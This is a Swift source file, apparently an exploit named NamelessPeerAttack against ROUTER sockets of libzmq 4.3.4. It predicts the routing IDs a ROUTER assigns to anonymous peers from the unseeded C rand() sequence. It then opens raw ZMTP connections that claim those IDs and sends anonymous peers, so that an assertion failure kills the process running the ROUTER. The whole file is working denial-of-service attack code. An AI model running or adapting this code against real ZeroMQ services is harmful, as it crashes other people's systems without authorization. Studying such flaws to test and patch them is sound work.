import Glibc

/// Claims the name that a ROUTER of libzmq 4.3.4 would give to its next nameless peer, and then sends it one:
/// `Assertion failed: ok (src/socket_base.cpp)` ends the process that has the ROUTER.
public enum NamelessPeerAttack {
    /// The first numbers that ROUTERs begin to count at in a process whose `rand()` is at the seed 1, where
    /// every process is that does not seed it. Sets the seed of this process.
    public static func firstNumbers(_ count: Int) -> [UInt32] {
        srand(1)
        defer { srand(1) }
        return (0..<count).map { _ in
            // generate_random() of random.cpp: two draws, the second shifted to the highest bit.
            let low = UInt32(truncatingIfNeeded: rand())
            let high = UInt32(truncatingIfNeeded: rand())
            return high << 31 | low
        }
    }

    /// - Returns: what must be kept open.
    public static func run(port: UInt16, numbers: [UInt32]) -> [RawPeer] {
        var peers: [RawPeer] = []
        // A few more than the first: other nameless peers may have come before.
        for number in numbers {
            for offset in 0..<4 as Range<UInt32> {
                let name = number &+ offset
                let identity = [0] + (0..<4).map { UInt8(truncatingIfNeeded: name >> (24 - 8 * UInt32($0))) }
                join(port, ZMTP.ready(identity: identity), &peers)
            }
        }
        for _ in 0..<8 { join(port, ZMTP.ready(), &peers) }
        return peers
    }

    private static func join(_ port: UInt16, _ ready: [UInt8], _ peers: inout [RawPeer]) {
        guard let peer = RawPeer(port: port) else { return }
        peer.send(ZMTP.greeting("NULL"))
        // Ours to read until theirs is complete; a greeting that is refused ends the connection.
        _ = peer.receive(atLeast: ZMTP.greetingLength)
        peer.send(ready)
        peer.send(ZMTP.frame([1, 2, 3]))
        peers.append(peer)
    }
}
